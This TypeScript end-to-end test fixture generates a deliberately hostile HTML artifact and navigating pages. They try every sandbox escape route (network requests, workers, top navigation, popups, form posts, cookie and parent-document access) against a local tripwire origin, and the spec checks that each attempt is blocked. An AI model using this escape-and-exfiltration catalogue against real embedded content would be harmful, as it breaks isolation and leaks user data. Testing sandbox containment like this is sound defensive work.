import { z } from 'zod';

/**
 * An artifact that tries every way out of the sandbox, aimed at a tripwire
 * on `origin` (http://127.0.0.1:<port>), for the real app. Adapted from
 * e2e/frame/hostile-page.ts (which posts to a harness parent); this one
 * writes what it saw into its own DOM, so a spec can read it through the
 * app's frame.
 *
 * Two phases:
 * 1. On load, every attempt that leaves the frame's document in place. When
 *    all have settled, `#report` gets the JSON report and `data-done="true"`.
 * 2. On a click of `#escape` (a real user gesture, so activation-gated paths
 *    get their best chance): top navigation, popups, form submissions;
 *    `#escape-report` gets the results and `data-done="true"`.
 *
 * Navigations started by the page (of its own frame, or of a child frame it
 * makes) are in NAVIGATIONS, one artifact each: a blocked self-navigation
 * replaces the frame's document with an error page, so it cannot share a
 * page with the report.
 */

/** Markers the spec looks for. */
export const FRAME_COOKIE = 'loupe_frame_secret';
export const FRAME_COOKIE_VALUE = 'planted-by-the-artifact-4c1d';

export const hostileReportSchema = z.object({
  /** What `document.cookie` returned; '' when it threw. */
  cookie: z.string(),
  /** What `document.cookie` returned after the page tried to set one; '' when it threw. */
  cookieAfterWrite: z.string(),
  /** What `parent.location.href` returned, or null when it threw. */
  parentHref: z.string().nullable(),
  /** `parent.document.title`, or null when it threw. */
  parentTitle: z.string().nullable(),
  /** Attempt name → `returned …`, `threw <Error name>`, `resolved …` (for event-based APIs: `resolved event <type>`) or `rejected <Error name>`. */
  attempts: z.record(z.string(), z.string()),
});
export type HostileReport = z.infer<typeof hostileReportSchema>;

/** A string literal that can sit inside an inline <script>. */
function inlineJs(value: string): string {
  return JSON.stringify(value).replace(/</g, '\\u003c');
}

export function hostileArtifact(origin: string): string {
  const T = origin;
  const wsOrigin = T.replace(/^http/, 'ws');
  return `<!doctype html>
<html><head>
<meta charset="utf-8">
<title>Hostile artifact</title>
<meta http-equiv="refresh" content="0;url=${T}/meta-refresh">
<link rel="stylesheet" href="${T}/style.css">
<link rel="preconnect" href="${T}">
<link rel="dns-prefetch" href="${T}">
<link rel="prefetch" href="${T}/prefetch">
<link rel="preload" as="script" href="${T}/preload.js">
<link rel="icon" href="${T}/favicon.ico">
<script src="${T}/script.js"></script>
<style>
  @import url("${T}/import.css");
  @font-face { font-family: leak; src: url("${T}/font.woff2"); }
  body { background-image: url("${T}/background.png"); font-family: leak, sans-serif; }
  #status { cursor: url("${T}/cursor.png"), auto; }
</style>
</head><body>
<h1 id="status">Hostile artifact</h1>
<img src="${T}/img.png" alt="">
<video src="${T}/video.mp4" poster="${T}/poster.png" autoplay muted></video>
<audio src="${T}/audio.mp3" autoplay></audio>
<iframe src="${T}/iframe"></iframe>
<form id="f1" action="${T}/form" method="post"><input name="q" value="x"></form>
<form id="f2" action="${T}/form-top" method="post" target="_top"><input name="q" value="x"></form>
<button id="escape" type="button">Try to escape</button>
<pre id="report"></pre>
<pre id="escape-report"></pre>
<script>
(async () => {
  const T = ${inlineJs(T)};
  const attempts = {};
  const settle = [];
  const describe = (v) => { try { return String(v).slice(0, 80); } catch (e) { return 'unprintable'; } };
  const attempt = (name, fn) => {
    try {
      const r = fn();
      if (r && typeof r.then === 'function') {
        attempts[name] = 'pending';
        settle.push(r.then((v) => { attempts[name] = 'resolved ' + describe(v); },
                           (e) => { attempts[name] = 'rejected ' + (e && e.name); }));
      } else {
        attempts[name] = 'returned ' + describe(r);
      }
    } catch (e) {
      attempts[name] = 'threw ' + (e && e.name);
    }
  };
  /** For APIs that report failure by event: resolves with the first of the given events (or none within 1 s). */
  const firstEvent = (target, types) =>
    new Promise((resolve) => {
      for (const type of types) target.addEventListener(type, () => resolve('event ' + type));
      setTimeout(() => resolve('no event within 1 s'), 1000);
    });

  attempt('fetch', () => fetch(T + '/fetch', { mode: 'no-cors' }));
  attempt('fetch-keepalive', () => fetch(T + '/fetch-keepalive', { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' }));
  attempt('xhr', () => {
    const x = new XMLHttpRequest();
    x.open('GET', T + '/xhr');
    x.send();
    return firstEvent(x, ['load', 'error', 'abort']);
  });
  attempt('websocket', () => firstEvent(new WebSocket(${inlineJs(wsOrigin)} + '/ws'), ['open', 'error', 'close']));
  attempt('eventsource', () => firstEvent(new EventSource(T + '/sse'), ['open', 'error']));
  attempt('sendBeacon', () => navigator.sendBeacon(T + '/beacon', 'x'));
  attempt('new-image', () => { new Image().src = T + '/new-image.png'; });
  attempt('worker', () => new Worker(T + '/worker.js'));
  attempt('blob-worker', () => new Worker(URL.createObjectURL(new Blob(["fetch('" + T + "/from-worker')"]))));
  attempt('form-submit', () => HTMLFormElement.prototype.submit.call(document.getElementById('f1')));
  attempt('form-submit-top', () => HTMLFormElement.prototype.submit.call(document.getElementById('f2')));
  attempt('window-open', () => window.open(T + '/open'));
  attempt('top-location', () => { top.location = T + '/top'; });
  attempt('top-location-href', () => { top.location.href = T + '/top-href'; });
  const add = (tag, props) => {
    const el = document.createElement(tag);
    Object.assign(el, props);
    (tag === 'link' ? document.head : document.body).appendChild(el);
  };
  attempt('script-preconnect', () => add('link', { rel: 'preconnect', href: T }));
  attempt('script-dns-prefetch', () => add('link', { rel: 'dns-prefetch', href: T }));
  attempt('script-prefetch', () => add('link', { rel: 'prefetch', href: T + '/script-prefetch' }));
  attempt('script-stylesheet', () => add('link', { rel: 'stylesheet', href: T + '/script-style.css' }));
  attempt('script-script-src', () => add('script', { src: T + '/script-script.js' }));
  attempt('script-video', () => add('video', { src: T + '/script-video.mp4', autoplay: true, muted: true }));

  let cookie = '';
  attempt('cookie-read', () => (cookie = document.cookie));
  let cookieAfterWrite = '';
  attempt('cookie-write', () => {
    document.cookie = ${inlineJs(`${FRAME_COOKIE}=${FRAME_COOKIE_VALUE}; path=/`)};
    return (cookieAfterWrite = document.cookie);
  });
  attempt('parent-cookie-write', () => {
    parent.document.cookie = ${inlineJs(`${FRAME_COOKIE}=${FRAME_COOKIE_VALUE}; path=/`)};
  });
  let parentHref = null;
  attempt('parent-location-href', () => (parentHref = parent.location.href));
  let parentTitle = null;
  attempt('parent-document', () => (parentTitle = parent.document.title));
  attempt('top-document', () => top.document.body.innerHTML);

  await Promise.allSettled(settle);
  const report = document.getElementById('report');
  report.textContent = JSON.stringify({ cookie, cookieAfterWrite, parentHref, parentTitle, attempts });
  report.dataset.done = 'true';

  document.getElementById('escape').addEventListener('click', () => {
    const escapes = {};
    const tryIt = (name, fn) => {
      try { escapes[name] = 'returned ' + describe(fn()); } catch (e) { escapes[name] = 'threw ' + (e && e.name); }
    };
    tryIt('gesture-window-open', () => window.open(T + '/gesture-open'));
    tryIt('gesture-top-location', () => { top.location = T + '/gesture-top'; });
    tryIt('gesture-form-submit', () => HTMLFormElement.prototype.submit.call(document.getElementById('f1')));
    tryIt('gesture-form-submit-top', () => HTMLFormElement.prototype.submit.call(document.getElementById('f2')));
    const out = document.getElementById('escape-report');
    out.textContent = JSON.stringify(escapes);
    out.dataset.done = 'true';
  });

})();
</script>
</body></html>`;
}

/**
 * Navigations an artifact can start from script, each run on a click of
 * `#go` in a page of its own. `replacesFrame`: whether a blocked attempt
 * takes the artifact's document away (to an error page). Static
 * `<meta http-equiv=refresh>` and `<iframe src>` are in hostileArtifact:
 * the frame bootstrap never inserts those.
 */
export interface NavigationAttempt {
  script(origin: string): string;
  replacesFrame: boolean;
}

export const NAVIGATIONS: Record<string, NavigationAttempt> = {
  'location.href = … (self navigation)': {
    script: (o) => `location.href = ${inlineJs(`${o}/self-href`)};`,
    replacesFrame: true,
  },
  '<meta http-equiv=refresh> made by a script': {
    script: (o) =>
      `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = ${inlineJs(`0;url=${o}/script-meta-refresh`)}; document.head.appendChild(m);`,
    replacesFrame: true,
  },
  '<iframe src> made by a script': {
    script: (o) => `const f = document.createElement('iframe'); f.src = ${inlineJs(`${o}/script-iframe`)}; document.body.appendChild(f);`,
    replacesFrame: false,
  },
};

/** A page whose `#go` button runs `attempt`; `#went` appears once the script ran (if the page is still there). */
export function navigatingArtifact(origin: string, attempt: NavigationAttempt): string {
  return `<!doctype html>
<html><head><meta charset="utf-8"><title>Navigating artifact</title></head><body>
<button id="go" type="button">Go</button>
<script>
document.getElementById('go').addEventListener('click', () => {
  try { ${attempt.script(origin)} } finally {
    const p = document.createElement('p');
    p.id = 'went';
    p.textContent = 'went';
    document.body.appendChild(p);
  }
});
</script>
</body></html>`;
}
